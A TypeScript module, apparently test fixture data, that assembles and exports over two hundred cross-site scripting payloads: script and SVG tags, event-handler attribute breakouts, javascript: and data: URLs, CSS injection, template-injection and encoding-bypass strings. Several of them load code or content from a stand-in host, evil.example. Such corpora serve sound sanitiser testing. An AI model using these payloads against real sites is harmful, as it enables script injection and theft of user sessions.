/** What an attacker writes into every field, hoping that one place forgets what it is. */
const calls = ["alert(1)", "window.hacked=1", "import('//evil.example/x.js')"];
const handlers = [
  ...["onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter", "onscroll"],
];

const tags = [
  ...["<script>CALL</script>", "</script><script>CALL</script>", "<svg onload=CALL>"],
  ...["<svg><script>CALL</script></svg>", "<img src=x onerror=CALL>", "<img src=x onerror='CALL'//"],
  ...['"><img src=x onerror=CALL>', "'><svg/onload=CALL>", "</title><script>CALL</script>"],
  ...["</style><script>CALL</script>", "</textarea><script>CALL</script>", "--><script>CALL</script>"],
  ...["]]><script>CALL</script>", "<iframe srcdoc='<script>CALL</script>'>", "<iframe src=javascript:CALL>"],
  ...["<object data=javascript:CALL>", "<embed src=javascript:CALL>", "<a href=javascript:CALL>x</a>"],
  ...["<form action=javascript:CALL><button>x</form>", "<math href=javascript:CALL>x</math>"],
  ...["<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>"],
  ...["<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>"],
  ...["<video><source onerror=CALL></video>", "<details open ontoggle=CALL>", "<marquee onstart=CALL>"],
  "<body onload=CALL>",
];
const addresses = [
  ...["javascript:CALL", "JaVaScRiPt:CALL", "java\tscript:CALL", "\u0001javascript:CALL", "vbscript:msgbox(1)"],
  ...["data:text/html,<script>CALL</script>", "https://evil.example\\@good.example"],
  'https://good.example/"onmouseover=CALL',
];
const styles = [
  ...["red;}*{display:none}", "#fff;background:url(//evil.example/x)", "#fff}</style><script>CALL</script>"],
  ...["expression(CALL)", "url(javascript:CALL)", "-moz-binding:url(//evil.example/x.xml)", "#000/*"],
  ...["*/body{position:fixed;top:-9999px}/*", "@import url(//evil.example/x.css);", "\\3c script\\3e CALL"],
  ...["var(--profile-text)", "#fff\n;}body{display:none"],
];
const templates = [
  ...[`$${"{CALL}"}`, "{{constructor.constructor('CALL')()}}", "<%= CALL %>", "#{CALL}"],
  ...["&lt;script&gt;CALL&lt;/script&gt;", "&#60;script&#62;CALL&#60;/script&#62;", "\\u003cscript\\u003eCALL"],
  ...["<\u0073cript>CALL</script>", "%3Cscript%3ECALL%3C/script%3E", "<!--<script>CALL", "\u202e<script>CALL</script>"],
  "`onmouseover=CALL`",
];

const attributes = handlers.flatMap((handler) => [
  `" ${handler}=CALL autofocus tabindex=1 x="`,
  `' ${handler}=CALL autofocus tabindex=1 x='`,
]);
/** What a pattern that reads markup may take for the beginning of something, up to the quote that ends the attribute. */
const ends = ["x nonce=", "x href=", "x type=", "x content=", "x -->", "x <!--"];
const patterns = [...tags, ...addresses, ...styles, ...templates, ...attributes, ...ends];

/** More than two hundred of them, each of the patterns with several things to do. */
export const payloads: readonly string[] = patterns.flatMap((pattern) =>
  pattern.includes("CALL") ? calls.map((call) => pattern.replaceAll("CALL", call)) : [pattern],
);
